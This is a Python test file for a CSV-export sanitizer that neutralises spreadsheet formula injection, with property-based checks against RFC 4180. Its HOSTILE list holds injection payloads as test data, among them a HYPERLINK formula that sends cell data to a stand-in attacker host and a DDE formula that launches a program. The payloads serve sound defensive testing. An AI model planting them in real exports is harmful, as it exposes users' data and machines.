"""Tables for spreadsheets: RFC 4180, and nothing in a cell that a program would run."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from usher.core.csv_safe import COLUMNS, cells, header, line, safe
from usher.ledger.verify.export_events import _harmless

HOSTILE = [
    "=1+1",
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '"=1',
    "'=1",
    "\u00a0=1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "\uff1d1",
    "\uff0b1",
    "x;=1",
    "x,=1",
    "x\t=1",
    "x\n=1",
    'x"\r\n  "=1',
    "\ufeff=1",
]
PLAIN = [
    "",
    "user:alice",
    "role:hr role:board",
    "2026-01-31T09:00:00.000000Z",
    "a-b",
    "a=b",
    "x@y.example",
    "3",
    "Tromsø",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    """A `'` stands before it, wherever a program might cut the cell; nothing of it is lost."""
    made = safe(text)
    assert made != text
    assert made.replace("'", "") == text.replace("'", "")
    for part in re.split("[;,|\t\r\n]", made):
        assert part.lstrip(' \u00a0"\ufeff')[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", PLAIN)
def test_everything_else_stays_as_it_is(text: str) -> None:
    """Names, ids, times and numbers."""
    assert safe(text) == text


@given(
    st.lists(st.text(alphabet=st.sampled_from("=+-@ab,;'\"\t\r\n \u00e9\uff1d"), max_size=8), min_size=1, max_size=4)
)
def test_a_line_is_one_record_of_rfc_4180(texts: list[str]) -> None:
    """Whatever is in the cells: as many come out as went in, each as `safe` made it."""
    written = line(texts)
    assert list(csv.reader(io.StringIO(written, newline=""), strict=True)) == [[safe(text) for text in texts]]
    assert written.endswith("\r\n")


@given(st.text(alphabet=st.sampled_from("=+-@ab,;|'\"`\t\r\n \u00e9\uff1d\u200b\u00a0"), max_size=8))
def test_the_verifier_finds_the_same_cell_by_its_own_rule(text: str) -> None:
    """It shares no code with this."""
    assert _harmless(text) == safe(text)


def test_a_row_is_made_of_what_an_event_says() -> None:
    """Texts and numbers as they are, lists with spaces and each value once, nothing where there is nothing."""
    event = {
        "number": 7,
        "type": "retrieval",
        "audit_id": None,
        "who": {"pseudonym": "p", "roles": ["role:a", "role:b"]},
        "gen_ai.request.model": "m",
        "passages": [{"document": "d"}, {"document": "e"}, {"document": "d"}],
        "reason": "=1",
    }
    row = dict(zip(header(names=False), cells(event), strict=True))
    assert (row["number"], row["audit_id"], row["roles"], row["model"]) == ("7", "", "role:a role:b", "m")
    assert (row["documents"], row["reason"], row["time"]) == ("d e", "=1", "")
    assert "'=1" in line(cells(event))
    assert header(names=True) == [*COLUMNS, "user"]
